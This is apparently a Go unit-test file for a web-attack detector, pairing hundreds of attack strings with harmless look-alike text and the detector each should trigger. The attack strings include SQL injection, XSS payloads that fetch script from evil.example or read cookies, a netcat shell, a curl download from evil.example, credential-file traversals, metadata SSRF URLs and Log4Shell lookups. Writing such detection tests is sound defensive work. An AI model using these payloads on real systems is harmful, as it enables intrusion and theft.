package attack

import "testing"

// scanIDs runs every detector on v as a query or form value and returns the
// ids of those that matched.
func scanIDs(v string, where Where) map[string]bool {
	ids := map[string]bool{}
	Scan(v, &Context{Where: where, Name: "q"}, nil, func(m Match) { ids[m.DetectorID] = true })
	return ids
}

func TestConfigPathParam(t *testing.T) {
	for name, want := range map[string]bool{"mosConfig_absolute_path": true, "_CONF[path]": true, "phpbb_root_path": true, "GLOBALS[x]": true, "url": false, "return_to": false} {
		ids := map[string]bool{}
		Scan("https://foo.bar", &Context{Where: InQuery, Name: name}, nil, func(m Match) { ids[m.DetectorID] = true })
		if ids["rfi.url"] != want {
			t.Errorf("https://foo.bar in %q: rfi %v, want %v", name, ids["rfi.url"], want)
		}
	}
}

func TestRedirectAfterAt(t *testing.T) {
	for _, c := range []struct {
		name, v string
		want    bool
	}{{"url", "@google.com", true}, {"next", "@evil.example", true}, {"domain", "@example.com", false}, {"url", "@handle", false}} {
		ids := map[string]bool{}
		Scan(c.v, &Context{Where: InQuery, Name: c.name}, nil, func(m Match) { ids[m.DetectorID] = true })
		if ids["redir.url"] != c.want {
			t.Errorf("%s=%s: redir %v, want %v", c.name, c.v, ids["redir.url"], c.want)
		}
	}
}

func TestInjectionShapes(t *testing.T) {
	cases := []struct {
		v     string
		where Where
		id    string // "" when no detector may match
	}{
		// Developer prose, search boxes and passwords.
		{"To fix it, run `sudo apt-get update && sudo apt-get install nginx` and restart the service.", InField, ""},
		{"please `sudo reboot` now", InField, "rce.shell"},
		{"hello`cat /etc/passwd`", InField, "rce.shell"},
		{`(apple OR banana) AND juice`, InQuery, ""},
		{`"climate change" AND (policy OR law)`, InQuery, ""},
		{`(a OR b) AND sleep(5)`, InQuery, "sqli.libinjection"},
		{`javascript: the good parts`, InQuery, ""},
		{`javascript:alert(1)`, InQuery, "xss.html"},
		{`eval() in python`, InQuery, ""},
		{`phpinfo();`, InQuery, "rce.code"},
		{`$umm3r(8/6{`, InField, ""},
		{`$f($_GET[1])`, InField, "rce.varcall"},
		{`Admin'1,27@9`, InField, ""},
		{`F0'0tballshadow1#564`, InField, ""},
		{`@9N<FDau)#wzC[w<`, InField, ""},
		{`admin'#`, InField, "sqli.tokenizer"},
		{`admin')#`, InField, "sqli.libinjection"},
		{`admin'--`, InField, "sqli.libinjection"},
		{`1'or'1'='1`, InField, "sqli.libinjection"},
		// SQL: comments for spaces in stacked statements, a call before the
		// ';', DISTINCTROW, PostgreSQL JSON operators.
		{`;DROP/*test*/TABLE test;`, InQuery, "sqli.tokenizer"},
		{`mod(1,2);INSERT /*test*/INTO category(id) VALUES (3)-- -`, InQuery, "sqli.tokenizer"},
		{`1 union distinctrow select 1,2`, InQuery, "sqli.tokenizer"},
		{`OR '{"a":"b"}' ? 'a'`, InQuery, "sqli.tokenizer"},
		{`Call me (maybe); select the best one`, InField, ""},
		{`is it ok? 'yes' or 'no'`, InQuery, ""},
		// Script without parentheses, CSS escapes.
		{"[].sort.call`${alert}1337`", InQuery, "xss.call"},
		{"const msg = `Total: ${price}`;", InField, ""},
		{`<STYLE>@im\port'\ja\vasc\ript:alert('XSS')';</STYLE>`, InQuery, "xss.html"},
		{`<div style="background:url(\6a avascript:alert(1))">`, InQuery, "xss.html"},
		{`<p style="content:\201C">quote</p>`, InField, ""},
		// Template probes: the polyglot, Razor, Twig's app and dump, doT.
		{`${{<%[%'"}}%\.`, InQuery, "ssti.template"},
		{`@(7*7)`, InQuery, "ssti.template"},
		{`{{dump(app)}}`, InQuery, "ssti.template"},
		{`{{app.request.server.all|join(',')}}`, InQuery, "ssti.template"},
		{`{{= global.process }}`, InQuery, "ssti.template"},
		{`<%= File.open('/etc/passwd').read %>`, InQuery, "ssti.template"},
		{`mail me @(home)`, InField, ""},
		// Handlers a client-side framework evaluates.
		{`<div ng-click=$event.view.alert(1)>x</div>`, InQuery, "xss.html"},
		{`<x v-on:click=alert(1)>`, InQuery, "xss.html"},
		{`<B@nana993`, InField, ""},
		// Brace expansion, the process list.
		{`;{ls,-la}`, InQuery, "rce.shell"},
		{`;ps aux`, InQuery, "rce.shell"},
		{`a {cat,dog} list`, InField, ""},
		{`1 or true`, InQuery, "sqli.tokenizer"},
		// Manuals and changelogs: GNU quotes, list items, options, shells
		// and files named in sentences, exception classes, module names.
		{"a. The `select' command now supports command forms without a word list following `in'.", InField, ""},
		{"*) Bugfix: a segmentation fault might occur in a worker process.", InField, ""},
		{"*)(uid=*))(|(uid=*", InQuery, "ldapi.filter"},
		{"Use `--libdir=lib` to override the libdir if adding the postfix is undesirable.", InField, ""},
		{"some shells (notably heirloom-sh and presumably also Solaris 10 /bin/sh) have a bug which alters it", InField, ""},
		{"access violation on some modern CPUs (these have pku flag in /proc/cpuinfo).", InField, ""},
		{"ls -l /etc/passwd", InQuery, "ptrav.file"},
		{"Execution failed: `main' threw exception: java.lang.RuntimeException: expected message", InField, ""},
		{"java.lang.Runtime.getRuntime().exec('id')", InQuery, "rce.java"},
		{"streams: remove unused require('assert') (Rod Vagg) * timers: backport", InField, ""},
		{"when using the `node:child_process` and `node:cluster` modules on Windows. The function is not", InField, ""},
		{"require('child_process').exec('id')", InQuery, "rce.code"},
		{`("system")("id")`, InQuery, "rce.code"},
		// Heads of injections cut short: an open SQL call, UNION SELECT,
		// the catalog by name.
		{`COALESCE(`, InField, "sqli.internals"},
		{`group_concat (`, InField, "sqli.internals"},
		{`SELECT CHAR(`, InField, "sqli.internals"},
		{`information_schema`, InField, "sqli.internals"},
		{`Turn left (at the light)`, InField, ""},
		{`replace(x, y)`, InField, ""},
		{`UNION ALL SELECT`, InField, "sqli.tokenizer"},
		{`union select committee`, InField, ""},
		// Globs that slashes pad, busy loops, shell arithmetic.
		{`cat /etc/[p//]asswd`, InQuery, "rce.shell"},
		{`see [1] and [2/]`, InField, ""},
		{`while(true);`, InQuery, "rce.node"},
		{`for(;;);`, InQuery, "rce.node"},
		{`while (x < 10) { x++ }`, InField, ""},
		{`$[2+2]`, InQuery, "rce.shell"},
		{`$[10] off`, InField, ""},
		// PHP callees in parentheses, arrays and variable expressions.
		{`(system)(ls);`, InQuery, "rce.code"},
		{`(/* comment */system)(ls/* comment */);`, InQuery, "rce.code"},
		{`[system][0](ls);`, InQuery, "rce.code"},
		{`see (system) (ls)`, InField, ""},
		{`$OOO0000O0 (16)`, InQuery, "rce.varcall"},
		{`${_.__}(30);`, InQuery, "rce.varcall"},
		{`$____[_]{_}[@_](25)`, InQuery, "rce.varcall"},
		{`$USD (before tax)`, InField, ""},
		{`Total: ${total} (incl. VAT)`, InField, ""},
		// Directory settings a request overrides; kernel files.
		{`https://foo.bar`, InQuery, ""},
		{`/proc/interrupts`, InQuery, "ptrav.file"},
		// Uploads: session files, dotfile configuration, php plus a version.
		{`sess_d8ew88tqmabdcokhumchy8htqm`, InFilename, "rce.upload"},
		{`.user.ini`, InFilename, "rce.upload"},
		{`fthi/sfewfda.php907.............`, InFilename, "rce.upload"},
		{`session_notes.txt`, InFilename, ""},
		{`photo.jpg`, InFilename, ""},
		// A separator the value starts with; data: URLs.
		{`;ps`, InQuery, "rce.shell"},
		{`| w`, InQuery, "rce.shell"},
		{`x; date`, InField, ""},
		{`; comment here`, InField, ""},
		// Handlers added out of an unquoted attribute.
		{`x onerror=alert(1)`, InQuery, "xss.html"},
		{`x/onload=import('//a')`, InQuery, "xss.html"},
		{`  onload= `, InName, "xss.html"},
		{`set the onboarding=true flag`, InField, ""},
		{`onload=init() in the body tag is old-fashioned`, InField, ""},
		{`<?import implementation =`, InQuery, "xss.html"},
		// Out-of-band interaction hosts, jar: URLs.
		{`http://spoofed.burpcollaborator.net`, InQuery, "ssrf.url"},
		{`jar:http://evil.example!/x`, InQuery, "ssrf.url"},
		{`https://example.com/oastify.com`, InQuery, ""},
		// URLs on a literal IP address, as the whole value.
		{`http://203.0.113.9/x`, InField, "rfi.url"},
		{`see http://203.0.113.9/x for the status`, InField, ""},
		// A one-word value closed by a quote and a ';'.
		{`admin@juice-sh.op';`, InField, "sqli.tokenizer"},
		{`admin'/* c */;`, InQuery, "sqli.tokenizer"},
		{`the students';`, InField, ""},
		// High-risk PHP functions called.
		{`unserialize(foo)`, InQuery, "rce.code"},
		{`posix_getpwuid('foo', 25)`, InQuery, "rce.code"},
		{`get_defined_vars()[0]`, InQuery, "rce.code"},
		{`PHP's unserialize() is unsafe with user input`, InField, ""},
		{`$obj->unserialize($x)`, InField, ""},
		// A statement stacked right after the closed string.
		{`';select p`, InQuery, "sqli.tokenizer"},
		{`He wrote 'no';select the best one`, InField, ""},
		// Java serialized objects.
		{`rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==`, InCookie, "rce.java"},
		// One level up to a site's own asset; a C-family block.
		{`../images/logo.png`, InField, ""},
		{`../config.php`, InField, "ptrav.dotdot"},
		{`../images/logo.png%00.php`, InQuery, "ptrav.dotdot"},
		{`if (a && b) { run(); }`, InField, ""},
		{`if(1=1,sleep(5),0)`, InQuery, "sqli.libinjection"},
		// Sinks called past "alert(" filters, handlers past parsers.
		{`alert?.(document?.cookie)`, InQuery, "xss.call"},
		{`alert.call(null, "XSS")`, InQuery, "xss.call"},
		{`[1].find(alert('1'))`, InField, "xss.call"},
		{`press OK (confirm) to go on`, InField, ""},
		{`<img/src=x/onerror=xxx`, InQuery, "xss.html"},
		{`&gt;+src+onerror=confirm(1)`, InQuery, "xss.html"},
		{`{onerror=prompt}throw document.location`, InQuery, "xss.html"},
		{`<ahref="javascript:window[/alert/.source]()">XSS</a>`, InField, "xss.html"},
		{`<a href="/x">javascript: the good parts</a>`, InField, ""},
		{`?__proto__[x]=data:,alert(1)//`, InField, "rce.prototype"},
		// Mongo shell statements, operator keys in text, IMAP commands.
		{`db.injection.insert({success:1});`, InQuery, "nosqli.js"},
		{`db.users.find()`, InField, "nosqli.js"},
		{`the db.example.com host (find it)`, InField, ""},
		{`', $or: [ {}, { 'a':'a`, InQuery, "nosqli.operator"},
		{"\r\nV100 CAPABILITY\r\nV101 FETCH 4791", InQuery, "mail.header"},
		{"Shopping:\nA list of things\n2 apples", InField, ""},
		// Classic ASP web shells.
		{`<%execute request("x")%>`, InField, "rce.code"},
		{`"Ex"&"e"&"cute(""Server.ScriptTimeout=3600:On Error Resume Next`, InQuery, "rce.code"},
		{`On Error Resume Next is how VBScript ignores errors`, InField, ""},
		// Introspection, OAST hosts in headers, schema references, UTF-7
		// documents, PHP complex-variable calls.
		{`{ __schema { types { name } } }`, InField, "scanner.introspection"},
		{`{ user { __typename name } }`, InField, ""},
		{`{ __type(name: "User") { fields { name } } }`, InField, "scanner.introspection"},
		{`<xs:include schemaLocation="http://evil.example/x.xsd"/>`, InMarkup, "xxe.entity"},
		{`<x xsi:schemaLocation="http://evil.example/"/>`, InMarkup, "xxe.entity"},
		{`<x xsi:schemaLocation="http://ns.example/a http://ns.example/a.xsd"/>`, InMarkup, ""},
		{`<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4-`, InBody, "xxe.entity"},
		{`${@print(md5(31337))}`, InField, "rce.code"},
		// A symbol quoted in a sentence.
		{`now allows leading '+'`, InField, ""},
		{`Also add a missing "-".`, InField, ""},
		{`admin' + 'a`, InField, "sqli.libinjection"},
		// Climbs counted per path; elided listing paths.
		{`Move to ../dirmngr/. and ../common/ too`, InField, ""},
		{`foo/../bar/../../etc`, InField, "ptrav.dotdot"},
		{`test/x.png | Bin 5448 -> 5528 bytes .../recordflip.ref.png | Bin`, InField, ""},
		{`....//....//etc/passwd`, InQuery, "ptrav.dotdot"},
		// Entity probes, XSLT calling PHP, CDATA-split markup, NoSQL
		// operators in brackets, IDNA-folded hosts.
		{`<!DOCTYPE xxe [<!ENTITY foo "aaaaaa">]><root>&foo;</root>`, InField, "xxe.entity"},
		{`<xsl:value-of select="php:function('system','id')"/>`, InField, "xxe.entity"},
		{`<![CDATA[<]]>SCRIPT<![CDATA[>]]>alert('XSS');<![CDATA[<]]>/SCRIPT<![CDATA[>]]>`, InField, "xss.html"},
		{`<p><![CDATA[x < y]]></p>`, InField, ""},
		{`[$ne]=1`, InField, "nosqli.operator"},
		{`' } ], $comment:'successful MongoDB injection'`, InField, "nosqli.operator"},
		{`http://①②⑦.⓪.⓪.①/`, InQuery, "ssrf.url"},
		{"http://127.0.0.1\x00example.com", InQuery, "ssrf.url"},
		// Line breaks escaped as \n around a command.
		{`\nid;`, InQuery, "rce.shell"},
		{`;id\n`, InQuery, "rce.shell"},
		{`\nnetstat -a\n`, InField, "rce.shell"},
		{`printf("hello\n")`, InField, ""},
		{`use \n for a new line`, InField, ""},
		// T-SQL declarations, statements right after the closed string.
		{`declare @s varchar(200) select @s = 0x73656c`, InQuery, "sqli.tokenizer"},
		{`I declare @home my office`, InField, ""},
		{`the 'update x set' form`, InField, ""},
		{`' insert into users(login) values('x') --`, InField, "sqli.tokenizer"},
		{`' grant connect to name; grant resource to name; --`, InField, "sqli.tokenizer"},
		// sqlmap's appended conditions and error-based functions.
		{`RLIKE SLEEP(5)`, InQuery, "sqli.tokenizer"},
		{`(CASE WHEN 4821=4821 THEN 1 ELSE NULL END)`, InQuery, "sqli.tokenizer"},
		{`,IIF(4821=4821,1,1/0)`, InQuery, "sqli.tokenizer"},
		{`HAVING 4821=4821`, InQuery, "sqli.tokenizer"},
		{`having fun is what counts`, InField, ""},
		{`in case when it rains, then we end early`, InField, ""},
		{`GTID_SUBSET(CONCAT('qkjvq',(SELECT (ELT(4821=4821,1))),'qpxbq'),4821)`, InQuery, "sqli.internals"},
		// Command names broken up for a filter; %COMSPEC%; ping probes.
		{`w'h'o'am'i`, InField, "rce.shell"},
		{`wh""oami`, InField, "rce.shell"},
		{`who$@ami`, InField, "rce.shell"},
		{`c\a\t /e\t\c/pa\s\swd`, InField, "rce.shell"},
		{`I'd like two`, InField, ""},
		{`O'Neil's order`, InField, ""},
		{`%COMSPEC% /c whoami`, InQuery, "rce.shell"},
		{`ping -c 1 127.0.0.1`, InQuery, "rce.shell"},
		// Paths globbed or cut by quotes, empty substitutions, bash
		// substring expansion.
		{`cat /et?/pa??wd`, InField, "ptrav.file"},
		{`cat /e"t"c/pa"s"swd`, InField, "ptrav.file"},
		{`/???/?at /???/?asswd`, InQuery, "ptrav.file"},
		{`see /docs/*.md for more`, InField, ""},
		{`who$()ami`, InField, "rce.shell"},
		{`${PATH:0:1}etc${PATH:0:1}passwd`, InQuery, "rce.shell"},
		// Template context dumps and secrets.
		{`{{settings.SECRET_KEY}}`, InField, "ssti.template"},
		{`{% debug %}`, InField, "ssti.template"},
		{`{{#with "s" as |string|}}{{/with}}`, InField, "ssti.template"},
		{`{{ site.title }} by {{ page.author }}`, InField, ""},
		// Server configuration, logs and shell histories; fullwidth
		// separators.
		{`/usr/local/apache/conf/httpd.conf`, InQuery, "ptrav.file"},
		{`/var/www/html/.htaccess`, InQuery, "ptrav.file"},
		{`/home/alice/.bash_profile`, InQuery, "ptrav.file"},
		{"..\xef\xbc\x8f..\xef\xbc\x8fetc\xef\xbc\x8fpasswd", InQuery, "ptrav.dotdot"},
		{`the error_log directive sets where errors go`, InField, ""},
		// An attribute quote left open to the end of an svg or style tag.
		{`<svg x="unterminated`, InField, ""},
		{`<style x='open`, InField, ""},
		// Dialogs called under another name, names computed from
		// literals, eval of the page's address, attribute breakouts into
		// a tag, "</" inside a tag, old script schemes and headers.
		{`(alert)(1)`, InQuery, "xss.call"},
		{`a=alert,a(1)`, InQuery, "xss.call"},
		{`x=alert is how we spell it, x(y)`, InField, ""},
		{`top[/al/.source+/ert/.source](1)`, InQuery, "xss.dom"},
		{`top[8680439..toString(30)](1)`, InQuery, "xss.dom"},
		{`eval(location.hash.slice(1))`, InQuery, "xss.call"},
		{`"><iframe src="http://example.com">`, InQuery, "xss.html"},
		{`<SVg </onlOad ="1> (_=prompt,_(1)) "">`, InQuery, "xss.html"},
		{`<IMG SRC="mocha:[code]">`, InField, "xss.html"},
		{`<META HTTP-EQUIV="Set-Cookie" Content="USERID=x">`, InField, "xss.html"},
		// Whole command lines: ls and id with options, cmd.exe's own,
		// interpreters told to run an argument, PHP complex syntax.
		{`ls -laR /etc`, InQuery, "rce.shell"},
		{`ls -l now aligns months better in Asian locales`, InQuery, ""},
		{`net user hacker Password1 /ADD`, InQuery, "rce.shell"},
		{`dir C:\Users`, InQuery, "rce.shell"},
		{`reg add "HKLM\System\x" /v y /t REG_DWORD /d 0 /f`, InQuery, "rce.shell"},
		{`perl -e 'print "X"x1024'`, InField, "rce.shell"},
		{`{${sleep(10)}}`, InField, "rce.code"},
		{`;{$_GET["cmd"]}`, InField, "rce.code"},
		{`while [ -n "${1:-}" ]; do`, InField, ""},
		// A short command line as all a field holds.
		{`nc -lvvp 4444 -e /bin/sh`, InField, "rce.shell"},
		{`curl https://evil.example/x.sh`, InField, "rce.shell"},
		{`Sh|ad0w1156`, InField, ""},
		{`please curl up with a good book`, InField, ""},
		// Interpreter lines named in text.
		{`guidelines say #!/usr/bin/perl everywhere, not #!/bin/perl`, InField, ""},
		{`Fixed "uses #!/bin/sh and command -v"`, InField, ""},
		{`;/bin/sh -i`, InQuery, "rce.shell"},
		// Column probes and appended clauses; JS breakouts.
		{` ORDER BY 2 `, InQuery, "sqli.tokenizer"},
		{` ORDER BY 1,SLEEP(5),3-- `, InQuery, "sqli.tokenizer"},
		{`order by 2 pm`, InQuery, ""},
		{` OR x=x`, InQuery, "sqli.tokenizer"},
		{` OR x=y#`, InQuery, "sqli.tokenizer"},
		{`red or blue=better`, InField, ""},
		{` WHERE 1=1 AND 1=0`, InQuery, "sqli.tokenizer"},
		{` AS INJECTX WHERE 1=1 AND 1=1#`, InQuery, "sqli.tokenizer"},
		{`}alert(/INJECTX/);{//`, InQuery, "xss.call"},
		{`alert(1)>//INJECTX`, InQuery, "xss.call"},
		{`¼script¾alert(¢XSS¢)¼/script¾`, InField, "xss.call"},
		// Files named inside template code; Windows directories by their
		// environment variables; cmd.exe command lines after a separator.
		{`{{ get_user_file("/etc/passwd") }}`, InField, "ptrav.file"},
		{`edit /etc/hosts on Windows too`, InField, ""},
		{`type %SYSTEMROOT%\repair\SAM`, InQuery, "ptrav.file"},
		{`| netsh firewall set opmode disable`, InQuery, "rce.shell"},
		// Open redirects behind userinfo, slashes, IDNA dots.
		{`//www.whitelisteddomain.tld@google.com/`, InQuery, "redir.url"},
		{`/https://google.com/`, InQuery, "redir.url"},
		{`/%09/javascript:alert(1)`, InField, ""},
		{`//google` + "\u3002" + `com`, InQuery, "redir.url"},
		{`http:[::ffff:216.58.214.206]`, InQuery, "redir.url"},
		// Overflowing numeric hosts, a URL in another's query, metadata
		// paths through a proxy, rebinding services.
		{`http://7147006462/`, InQuery, "ssrf.url"},
		{`http://0x41414141A9FEA9FE/`, InQuery, "ssrf.url"},
		{`http://425.510.425.510/`, InQuery, "ssrf.url"},
		{`http://0o177.0.0.1/`, InQuery, "ssrf.url"},
		{`https://x.example/icon-uri?consumerUri=http://169.254.169.254/metadata/v1/`, InQuery, "ssrf.url"},
		{`http://a.flaws.cloud/proxy/169.254.169.254/latest/meta-data/iam/security-credentials/x/`, InQuery, "ssrf.url"},
		{`http://make-1.2.3.4-rebind-169.254-169.254-rr.1u.ms/`, InQuery, "ssrf.url"},
		{`http://127.1.1.1:80:\@@127.2.2.2:80/`, InQuery, "ssrf.url"},
		// Commands no word is spelled like, alone; delays and tool
		// lookups as all a value holds.
		{`whoami`, InQuery, "rce.shell"},
		{`IfConfig`, InField, "rce.shell"},
		{`sleep 5`, InQuery, "rce.shell"},
		{`which nc`, InField, "rce.shell"},
		{`sleep 5 hours`, InField, ""},
		{`which one`, InField, ""},
		// A dialog reached from a handler without its name called.
		{"image src\r\n=valid.jpg onloadend='new class extends (confirm)/**/`` {}'>", InQuery, "xss.html"},
		{`x onclick=confirm_delete`, InField, ""},
		// Classes of the GoTestWAF holdout: YAML deserialization tags,
		// interaction hosts outside URLs, tags spaced with '+', ESI,
		// UNION and SELECT across comments, operators in paths, external
		// DTDs without a scheme, breakouts into a dialog call.
		{`!!python/object/new:exec [import socket; socket.gethostbyname('x')]`, InQuery, "rce.serialized"},
		{`!ruby/object:Gem::Installer`, InField, "rce.serialized"},
		{`|getent hosts somehost.burpcollaborator.net.&`, InQuery, "ssrf.url"},
		{`<marquee+loop=1+width=0+onfinish='alert(1)'>`, InQuery, "xss.html"},
		{`Safari/537.36<esi:include src="http://bxss.me/rpb.png"/>`, InField, "xss.html"},
		{`821} union # distinctrow/**/select 1,2,3--`, InField, "sqli.tokenizer"},
		{`', $or: [ {}, { 'order':'order`, InPath, "nosqli.operator"},
		{`<!DOCTYPE x SYSTEM "//x/x" > <x>a</x>`, InBody, "xxe.entity"},
		{`\"autofocus=alert(1)//`, InField, "xss.html"},
		// PHP superglobals in code.
		{`$_SERVER['test'];`, InQuery, "rce.code"},
		{`$_COOKIE=value;`, InQuery, "rce.code"},
		{`In PHP you read form fields from $_POST['name'] and cookies from $_COOKIE, then validate them before use`, InField, ""},
		// SQL with comments for spaces, GROUP BY ... HAVING, T-SQL's
		// dynamic EXEC, a catalog read cut off by a comment.
		{`/**/or/**/1/**/=/**/1`, InQuery, "sqli.tokenizer"},
		{` group by userid having 1=1--`, InQuery, "sqli.tokenizer"},
		{`' group by userid having 1=1--`, InQuery, "sqli.tokenizer"},
		{`exec(@s)`, InQuery, "sqli.tokenizer"},
		{`exec @cmd`, InField, "sqli.tokenizer"},
		{` select * from information_schema.tables--`, InQuery, "sqli.tokenizer"},
		{`select table_name from information_schema.tables where table_schema = 'shop';`, InField, ""},
		{`exec summary: group by region, then sort`, InField, ""},
		{`a { color: red; } /* main */ or the sidebar`, InField, ""},
		// Template probes: a class loader, a method on a literal.
		{`${class.getClassLoader()}`, InQuery, "ssti.template"},
		{`{{'someString'.toUpperCase()}}`, InQuery, "ssti.template"},
		{`{{ "a,b".split(",") }}`, InField, "ssti.template"},
		{`Hello {{ user.name }}, your order {{ order.id }} shipped`, InField, ""},
		{`{{ 'Save' | translate }}`, InField, ""},
		// Leftover files and scripts disguised as images, in paths.
		{`/backup.gz`, InPath, "scanner.probe"},
		{`/backup/db.gz`, InPath, "scanner.probe"},
		{`/wp-settings.php.swp`, InPath, "scanner.probe"},
		{`/./dmp.sql`, InPath, "scanner.probe"},
		{`/wso.php`, InPath, "scanner.probe"},
		{`/do.php#.png`, InPath, "scanner.probe"},
		{`/do.php;.png`, InPath, "scanner.probe"},
		{`/downloads/report-2024.pdf`, InPath, ""},
		{`/db/index.html`, InPath, ""},
		{`/assets/site.css`, InPath, ""},
		{`/releases/app-1.2.tar.gz`, InPath, ""},
		// XSS: handlers as the whole value, calls wrapped or after closing
		// tags, templates tagging call/apply, tag-split names, octal
		// escapes, zero-padded entities, Function by name in brackets.
		{`onload=x=>$.getScript('//evil.example/2.js')`, InQuery, "xss.html"},
		{`onfocus=;var{cookie}=document;write(cookie)`, InQuery, "xss.html"},
		{`AutoFocus/>/OnFocus=top?.["ale"+"rt"](1)/`, InQuery, "xss.html"},
		{`onload=true`, InQuery, ""},
		{`(prompt())`, InQuery, "xss.call"},
		{`'</style></script>alert(1)</script>`, InQuery, "xss.call"},
		{"Reflect.set.call`${location}${'href'}${name}`", InQuery, "xss.call"},
		{`"o<x>nmouseover=alert<x>(1)//`, InQuery, "xss.html"},
		{`a<b>c</b> and x<sup>2</sup>`, InField, ""},
		{`[]['filter']['constructor']`, InQuery, "xss.dom"},
		{"class x extends `${class x extends `${alert`1337`}`{}}`{}", InQuery, "xss.call"},
		{`[1,2,3].with(0,alert).shift()(1)`, InQuery, "xss.call"},
		{"([,O,B,J,E,C,,]=[]+{},[T,R,U,E]=[!!O]+!O)[X=C+O](A+L+E+R+T+`(1)`)()", InQuery, "xss.dom"},
		{`Click the bell (alert) icon, then (settings) to change it`, InField, ""},
		{`login[$nin][]=admin&login[$nin][]=test&pass[$ne]=toto`, InBody, "nosqli.operator"},
		{`{__type (name: "User") {name fields{name}}}`, InQuery, "scanner.introspection"},
		{`{ user { __typename name } }`, InQuery, ""},
		{`;cat+/e??/pa???d`, InQuery, "ptrav.file"},
		{`http://evil.example.com/c99.php`, InQuery, "rfi.url"},
		{`https://example.com/docs/c99.php.html`, InQuery, ""},
		{`$0<<<$'\\$(($((1<<1))#10011010))'`, InQuery, "rce.shell"},
		{`$\{$\{::-j\}$\{::-n\}$\{::-d\}$\{::-i\}:$\{::-r\}$\{::-m\}$\{::-i\}://x/a\}`, InQuery, "log4shell.lookup"},
		{`file:${br}/et${u}c/pas${te}swd?/`, InQuery, "ptrav.file"},
		{`Price: ${total} (incl. ${tax})`, InField, ""},
		{"/do.php\u560a.png", InPath, "scanner.probe"},
		{`+alert(0x000123)+`, InQuery, "xss.call"},
		{`/'</style></script>alert(1)</script>`, InPath, "xss.call"},
		{`-5 + 3 -`, InQuery, ""},
		{`window[['a'][0] + 'lert'](1337)`, InQuery, "xss.dom"},
		{`href="javascript:alert(1)"`, InQuery, "xss.html"},
		{`see javascript:void(0) links`, InField, ""},
		{`name[0 ;select sleep(8);;`, InQuery, "sqli.tokenizer"},
		{`Remember to close every statement; select the rows you need first`, InField, ""},
		{"..\ufe68..\ufe68..\ufe68boot.ini", InQuery, "ptrav.dotdot"},
		{`c:\apache\logs\access.log`, InQuery, "ptrav.file"},
		{`/apache2/logs/error.log`, InQuery, "ptrav.file"},
		{`Rotate logs/access.log weekly and keep four weeks of them`, InField, ""},
		{".\x00.\xc1\x1c.\x00.\xc1\x1cetc\xc1\x1cpasswd", InQuery, "ptrav.obfuscated"},
		{"0x2e0x2e0x2f0x2e0x2e0x2fwindows0x2fwin.ini", InQuery, "ptrav.obfuscated"},
		{"??%c1%8s??%c1%8sboot.ini", InQuery, "ptrav.obfuscated"},
		{"..\xc1\xafwindows\xc1\xafsystem32\xc1\xafdrivers\xc1\xafetc\xc1\xafhosts", InQuery, "ptrav.obfuscated"},
		{"\xef\xbc\x8e\xef\xbc\x8e%bg%qfetc%bg%qfshadow", InQuery, "ptrav.obfuscated"},
		{"\xc0\xfe\xc0\xfe\xee\xbf\x88etc\xee\xbf\x88passwd", InQuery, "ptrav.obfuscated"},
		{"caf\xc3\xa9 boot.ini", InQuery, ""},
		{"日本語boot.ini", InQuery, ""},
		{`..etc-passwd`, InQuery, ""},
		{`Where is boot.ini?`, InQuery, ""},
		{`see my.hosts`, InQuery, ""},
		{`1.2.3 issue`, InQuery, ""},
		{`v1..2 passwd`, InQuery, ""},
		{`$u/bin$u/cat$u $u/etc$u/passwd$u`, InQuery, "ptrav.file"},
		{`; $u cat /etc$u/passwd \#`, InQuery, "ptrav.file"},
		{`install it under $prefix/share/doc and $prefix/etc`, InField, ""},
		{`:phpversion();`, InQuery, "rce.code"},
		{"\nid", InField, "rce.shell"},
		{"\n ls -la", InField, "rce.shell"},
		{"\r\nls is how I list files", InField, ""},
		{"Hi\nid of the order is 5", InField, ""},
		{`<LINK REL="stylesheet" HREF="http://ha.ckers.org/xss.css">`, InField, "xss.html"},
		{`<link/rel=prefetch import href=data:q;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>`, InField, "xss.html"},
		{`<link rel="stylesheet" href="/static/site.css">`, InField, ""},
		{`<link rel="canonical" href="https://example.com/page">`, InField, ""},
		{`select * from pg_shadow;`, InField, "sqli.tokenizer"},
		{`select name, tbname, coltype from sysibm.syscolumns;`, InQuery, "sqli.tokenizer"},
		{`select * from master..sysservers`, InQuery, "sqli.tokenizer"},
		{`select current_user;`, InQuery, "sqli.tokenizer"},
		{`select user from dual`, InQuery, "sqli.tokenizer"},
		{`select current server from sysibm.sysdummy1;`, InQuery, "sqli.tokenizer"},
		{`select current_setting('data_directory');`, InQuery, "sqli.tokenizer"},
		{`select current_database();`, InQuery, "sqli.tokenizer"},
		{`SELECT if(LPAD(' ',4,version())='5.7',sleep(5),null);`, InQuery, "sqli.tokenizer"},
		{`,cast(chr(126)||(select table_name from information_schema.tables limit 1 offset 3)||chr(126) as numeric)--`, InQuery, "sqli.tokenizer"},
		{`' || myappadmin.adduser('admin', 'newpass') || '`, InQuery, "sqli.tokenizer"},
		{`1 un/**/ion sel/**/ect 1,2,3--`, InQuery, "sqli.tokenizer"},
		{`Select user`, InQuery, ""},
		{`select a user from the list`, InQuery, ""},
		{`select * from orders where id = 5`, InField, ""},
		{`SELECT COUNT(*) FROM (SELECT id FROM orders) t`, InField, ""},
		{`it's || it's`, InField, ""},
		{`1) as wuio where 5312=5312 or 7552=(select count(*) from rdb$fields as t1,rdb$types as t2)--`, InQuery, "sqli.tokenizer"},
		{`1' where 9544=9544;(select * from (select(sleep(5)))acdk)#`, InQuery, "sqli.tokenizer"},
		{`1' in boolean mode);select count(*) from domain.domains as t1,domain.columns as t2--`, InQuery, "sqli.tokenizer"},
		{`1);iif(5462=8866,1,1/0)`, InQuery, "sqli.tokenizer"},
		{`1));(select * from (select(sleep(5)))srmq) and ((4982=4982`, InQuery, "sqli.tokenizer"},
		{`1'))(select (case when (5451=5451) then 1 else 2 end) from information_schema.system_users) and (('a'='a`, InQuery, "sqli.tokenizer"},
		{`Room 1) as shown where the map says`, InField, ""},
		{`"javascript:alert(1)"></table>`, InQuery, "xss.html"},
		{`"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></embed>`, InQuery, "xss.html"},
		{`"javascript: the good parts" is a book`, InField, ""},
		{`1,(select (case when (5777=5777) then 1 else cast(1 as int)/(select 0 from dual) end) from dual)`, InQuery, "sqli.tokenizer"},
		{`1',(select (case when (2106=2106) then 1 else 2 end))`, InQuery, "sqli.tokenizer"},
